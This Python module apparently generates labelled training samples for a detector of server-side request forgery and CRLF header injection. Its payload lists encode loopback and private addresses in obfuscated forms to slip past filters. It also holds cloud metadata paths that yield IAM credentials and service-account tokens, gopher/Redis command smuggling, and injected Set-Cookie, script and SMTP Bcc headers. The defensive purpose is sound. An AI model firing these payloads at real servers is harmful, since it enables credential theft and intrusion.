"""SSRF targets (loopback and private addresses in decimal, octal, hex, mixed, IPv6 and
IPv4-mapped forms; cloud metadata endpoints; DNS rebinding names; odd schemes) and CRLF /
header injection."""

from __future__ import annotations

import ipaddress
import random

from apiward.ml.generators.base import Sample, chance, encode_layer, pick, rand_host, rand_ident


def _internal_ip(rng: random.Random) -> str:
    roll = rng.random()
    if roll < 0.3:
        return f"127.{rng.randint(0, 1)}.{rng.randint(0, 1)}.{rng.randint(1, 2)}" if rng.random() < 0.5 else "127.0.0.1"
    if roll < 0.5:
        return "169.254.169.254"
    if roll < 0.65:
        return f"10.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
    if roll < 0.8:
        return f"192.168.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
    if roll < 0.9:
        return f"172.{rng.randint(16, 31)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
    return pick(rng, ("0.0.0.0", "100.100.100.200", "192.0.0.192", "168.63.129.16"))


def _ip_form(rng: random.Random, ip: str) -> str:
    octets = [int(x) for x in ip.split(".")]
    as_int = int(ipaddress.IPv4Address(ip))
    roll = rng.random()
    if roll < 0.3:
        return ip
    if roll < 0.42:
        return str(as_int)
    if roll < 0.52:
        return hex(as_int)
    if roll < 0.6:
        return ".".join(f"0{o:o}" for o in octets)
    if roll < 0.68:
        return ".".join(hex(o) for o in octets)
    if roll < 0.74:
        return f"{octets[0]}.{(octets[1] << 16) + (octets[2] << 8) + octets[3]}"
    if roll < 0.8:
        return f"[::ffff:{ip}]"
    if roll < 0.85:
        return f"[::ffff:{octets[0]:02x}{octets[1]:02x}:{octets[2]:02x}{octets[3]:02x}]"
    if roll < 0.9:
        return pick(rng, ("[::1]", "[::]", "[0:0:0:0:0:ffff:127.0.0.1]", "[fd00:ec2::254]", "[0000::1]"))
    if roll < 0.95:
        return f"{ip}.nip.io" if rng.random() < 0.5 else f"{ip.replace('.', '-')}.sslip.io"
    return f"0x{octets[0]:02x}.{octets[1]}.0{octets[2]:o}.{octets[3]}"


_METADATA_PATHS = ("/latest/meta-data/", "/latest/meta-data/iam/security-credentials/", "/latest/user-data", "/computeMetadata/v1/", "/computeMetadata/v1/instance/service-accounts/default/token", "/metadata/instance?api-version=2021-02-01", "/metadata/v1/", "/openstack/latest/meta_data.json", "/latest/api/token", "/v1/user-data", "/admin", "/server-status", "/", "", "/actuator/env", "/_cat/indices", "/v2/keys", "/api/v1/namespaces/default/secrets", "/debug/pprof/", "/.env", "/console")
_NAMES = ("localhost", "localhost.localdomain", "metadata.google.internal", "metadata", "instance-data", "kubernetes.default.svc", "localtest.me", "ip6-localhost", "127.0.0.1.nip.io", "spoofed.burpcollaborator.net", "internal", "db.internal", "0", "127.1", "0177.1", "2130706433", "017700000001", "0x7f000001", "localhost4", "localhost6")


def _ssrf(rng: random.Random) -> tuple[str, str]:
    path = pick(rng, _METADATA_PATHS)
    roll = rng.random()
    if roll < 0.55:
        host = _ip_form(rng, _internal_ip(rng))
        fam = "ip_forms"
    elif roll < 0.75:
        host = pick(rng, _NAMES)
        fam = "names"
    else:
        host = _ip_form(rng, _internal_ip(rng))
        fam = "schemes"
    port = pick(rng, ("", "", "", ":80", ":22", ":6379", ":8080", ":2375", ":9200", ":11211", ":3306", ":25", ":5432", f":{rng.randint(1, 65535)}"))
    if fam == "schemes":
        scheme = pick(rng, ("gopher://", "dict://", "file://", "ldap://", "tftp://", "sftp://", "ftp://", "jar:http://", "netdoc://", "php://", "ssh://", "redis://"))
        extra = pick(rng, ("", "_", "/_SLAVEOF%20" + rand_host(rng), "/_GET%20/%20HTTP/1.1", "/info", "/x"))
        return fam, f"{scheme}{host}{port}{extra}"
    scheme = pick(rng, ("http://", "http://", "https://", "//", "http:/", "HTTP://", "http:\\\\", ""))
    if not scheme and not path:
        scheme = "http://"
    trick = pick(rng, ("", "", "", "", f"{rand_host(rng)}@", f"{rand_ident(rng)}:{rand_ident(rng)}@", f"{rand_host(rng)}#@"))
    return fam, f"{scheme}{trick}{host}{port}{path}"


def _crlf(rng: random.Random) -> tuple[str, str]:
    nl = pick(rng, ("\r\n", "\r\n", "\n", "%0d%0a", "%0D%0A", "\r", "%0a", "%E5%98%8A%E5%98%8D", "\\r\\n", "%u000d%u000a", "%250d%250a", "\r\n\t"))
    header = pick(rng, (
        f"Set-Cookie: {pick(rng, ('sessionid', 'admin', 'PHPSESSID', rand_ident(rng)))}={pick(rng, ('1', 'true', rand_ident(rng)))}",
        f"Location: http://{rand_host(rng)}/",
        f"X-{rand_ident(rng).title()}: {rand_ident(rng)}",
        "Content-Length: 0",
        f"Content-Type: text/html{nl}{nl}<script>alert(1)</script>",
        f"Refresh: 0; url=http://{rand_host(rng)}",
        f"Access-Control-Allow-Origin: *",
        f"HTTP/1.1 200 OK{nl}Content-Type: text/html",
        f"Host: {rand_host(rng)}",
        f"Transfer-Encoding: chunked",
        f"X-Forwarded-For: 127.0.0.1",
    ))
    base = pick(rng, ("", "", "/", "en", rand_ident(rng), "http://example.com/", "1", "test"))
    if chance(rng, 0.15):
        return "smtp", f"{rand_ident(rng)}@{rand_host(rng)}{nl}{pick(rng, ('Bcc', 'Cc', 'To'))}: {rand_ident(rng)}@{rand_host(rng)}"
    if chance(rng, 0.1):
        return "log", f"{base}{nl}{pick(rng, ('[INFO] ', '127.0.0.1 - - ', ''))}{pick(rng, ('User admin logged in', 'GET /admin HTTP/1.1 200', 'login succeeded for root'))}"
    tail = f"{nl}{nl}{pick(rng, ('<html>injected</html>', '<script>alert(1)</script>', ''))}" if chance(rng, 0.2) else ""
    return "header", f"{base}{nl}{header}{tail}"


def generate_ssrf(rng: random.Random, n: int) -> list[Sample]:
    out = []
    for _ in range(n):
        fam, text = _ssrf(rng)
        out.append(Sample(encode_layer(rng, text, (0.85, 0.07, 0.05, 0.03)), "ssrf", fam))
    return out


def generate_crlf(rng: random.Random, n: int) -> list[Sample]:
    out = []
    for _ in range(n):
        fam, text = _crlf(rng)
        out.append(Sample(text, "crlf", fam))
    return out
